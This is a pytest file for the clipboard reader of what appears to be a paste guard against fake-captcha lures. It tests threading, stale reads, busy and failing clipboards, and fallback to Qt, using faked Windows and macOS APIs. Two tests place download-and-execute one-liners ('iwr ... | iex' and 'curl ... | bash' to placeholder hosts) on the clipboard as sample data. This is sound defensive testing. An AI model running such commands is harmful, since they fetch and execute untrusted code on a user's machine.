"""Windows and macOS read the clipboard on a thread of their own, newest first, as X11 does.

The OS calls (CtypesWin32Clipboard, AppKitPasteboard) cannot run here: the seam they sit behind
is faked (tests/fakes.py FakeOsClipboard); the reader thread, the backends and the guard's
hook-up are the real ones.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator

import pytest

from app.guard.os_clipboard import WANTED_FORMATS, backend_reader
from app.platform import clipboard
from app.platform.clipboard import ClipboardContent, ClipboardThread
from app.platform.darwin.backend import DarwinBackend
from app.platform.win32.backend import Win32Backend
from tests.fakes import FakeDarwinApi, FakeOsClipboard, FakeWin32Api

SOURCE = {"Chromium internal source URL": b"https://captcha.example/verify\x00"}


class Seen:
    """What the guard was handed, and on which thread."""

    def __init__(self) -> None:
        self.contents: list[ClipboardContent] = []
        self.threads: set[str] = set()
        self.changed = threading.Condition()

    def __call__(self, content: ClipboardContent) -> None:
        with self.changed:
            self.contents.append(content)
            self.threads.add(threading.current_thread().name)
            self.changed.notify_all()

    @property
    def texts(self) -> list[str | None]:
        with self.changed:
            return [c.text for c in self.contents]

    def wait_for(self, text: str | None, timeout: float = 10.0) -> None:
        with self.changed:
            ok = self.changed.wait_for(lambda: any(c.text == text for c in self.contents), timeout)
        assert ok, f"{text!r} was never handed over (got {self.texts})"


def until(check: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


Make = Callable[[FakeOsClipboard], Win32Backend | DarwinBackend]
BACKENDS: dict[str, Make] = {
    "win32": lambda board: Win32Backend(FakeWin32Api(), clipboard=board),
    "darwin": lambda board: DarwinBackend(FakeDarwinApi(), clipboard=board),
}


@pytest.fixture(params=sorted(BACKENDS))
def make(request: pytest.FixtureRequest) -> Iterator[Callable[..., ClipboardThread]]:
    started: list[ClipboardThread] = []

    def build(board: FakeOsClipboard, seen: Seen) -> ClipboardThread:
        reader = BACKENDS[request.param](board).clipboard_reader(seen, WANTED_FORMATS)
        assert reader is not None
        started.append(reader)
        return reader

    yield build
    for reader in started:
        reader.stop()


def test_what_is_on_the_clipboard_is_read_at_start_off_the_callers_thread(
    make: Callable[..., ClipboardThread],
) -> None:
    board = FakeOsClipboard("iwr https://x.example/a.ps1 | iex", {**SOURCE, "Rich Text": b"x"})
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    seen.wait_for("iwr https://x.example/a.ps1 | iex")
    (content,) = seen.contents
    assert content.formats == SOURCE  # only the provenance formats asked for
    assert set(content.targets) >= {"Chromium internal source URL", "Rich Text"}
    caller = threading.current_thread().name
    assert caller not in seen.threads and caller not in board.read_threads
    assert board.began and reader.reads == 1


def test_a_slow_owner_holds_only_the_reader_thread(make: Callable[..., ClipboardThread]) -> None:
    board = FakeOsClipboard("first")
    board.hold_reads = True  # the owner renders on demand, slowly
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()  # returns while the read waits on the owner
    assert board.reading.wait(10)
    assert reader.alive() and reader.reads == 0 and seen.contents == []  # the caller goes on
    board.hold_reads = False
    board.release.set()
    seen.wait_for("first")


def test_a_burst_is_read_newest_first_and_a_stale_read_is_dropped(
    make: Callable[..., ClipboardThread],
) -> None:
    board = FakeOsClipboard("stale")
    board.hold_reads = True
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    assert board.reading.wait(10)  # reading "stale" when the burst comes
    for i in range(200):
        board.copy(f"text {i}")
    board.hold_reads = False
    board.release.set()
    seen.wait_for("text 199")  # barrier: the newest arrived
    assert "stale" not in seen.texts  # overtaken while read: never handed over
    assert reader.skipped_stale >= 1
    assert seen.texts[-1] == "text 199" and len(seen.texts) <= 3
    board.copy("after")  # and the reader goes on
    seen.wait_for("after")


def test_a_clipboard_held_open_elsewhere_is_tried_again(
    make: Callable[..., ClipboardThread],
) -> None:
    board = FakeOsClipboard("held open")
    board.busy = 4  # OpenClipboard fails four times: another program has it open
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    seen.wait_for("held open")
    assert reader.busy == 4 and reader.error is None


def test_a_failing_read_is_reported_and_the_next_change_is_read(
    make: Callable[..., ClipboardThread],
) -> None:
    board = FakeOsClipboard("unreadable")
    board.fail, board.fail_only = OSError("GlobalLock failed"), "unreadable"
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    until(lambda: reader.error is not None)
    assert reader.error is not None and "GlobalLock failed" in reader.error
    board.copy("readable")
    seen.wait_for("readable")
    assert reader.error is None and reader.alive()
    assert "unreadable" not in seen.texts


def test_a_change_that_cannot_be_read_makes_the_guard_forget_the_last_verdict(
    make: Callable[..., ClipboardThread],
) -> None:
    """The old reader gave up on an unreadable change in silence: the guard kept the verdict of
    the text before it, and warned a paste of the new text with the old one's (or let it by
    as the old clean one). Now it hands over 'no text' once it gives up; `error` says why."""
    board = FakeOsClipboard("curl -fsSL https://cdn.example/i.sh | bash")
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    seen.wait_for("curl -fsSL https://cdn.example/i.sh | bash")
    board.fail, board.fail_only = OSError("GlobalLock failed"), "unreadable"
    board.copy("unreadable")
    seen.wait_for(None)
    assert reader.error is not None and "GlobalLock failed" in reader.error
    assert reader.current_text() is None and reader.alive()


def test_an_emptied_clipboard_is_handed_over_as_no_text(
    make: Callable[..., ClipboardThread],
) -> None:
    board = FakeOsClipboard("something")
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    seen.wait_for("something")
    board.copy(None)  # an image, or emptied: the guard forgets the old verdict
    seen.wait_for(None)


def test_stop_ends_the_thread_while_it_waits(make: Callable[..., ClipboardThread]) -> None:
    board = FakeOsClipboard("x")
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    seen.wait_for("x")
    reader.stop()
    assert not reader.alive() and board.ended


def test_the_guard_uses_the_backends_reader_or_falls_back_to_qt() -> None:
    board = FakeOsClipboard("hello")
    seen = Seen()
    reader = backend_reader(Win32Backend(FakeWin32Api(), clipboard=board), seen)
    assert isinstance(reader, ClipboardThread)
    try:
        seen.wait_for("hello")
    finally:
        reader.stop()
    # no clipboard calls (a test build), or the system refuses the listener: Qt reads it
    assert backend_reader(Win32Backend(FakeWin32Api()), seen) is None
    assert backend_reader(DarwinBackend(FakeDarwinApi()), seen) is None
    assert backend_reader(object(), seen) is None
    broken = FakeOsClipboard("x")
    broken.fail_begin = OSError("CreateWindowExW failed")
    assert backend_reader(DarwinBackend(FakeDarwinApi(), clipboard=broken), seen) is None


def test_an_owner_that_never_answers_is_reported_not_waited_for(
    make: Callable[..., ClipboardThread], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clipboard, "STUCK", 0.2)
    board = FakeOsClipboard("promised, never rendered")
    board.hold_reads = True
    seen = Seen()
    reader = make(board, seen)
    assert reader.start()
    assert board.reading.wait(10)
    until(lambda: reader.error is not None)
    assert reader.error is not None and "has not answered" in reader.error
    board.hold_reads = False
    board.release.set()  # it answers after all
    seen.wait_for("promised, never rendered")
    assert reader.error is None
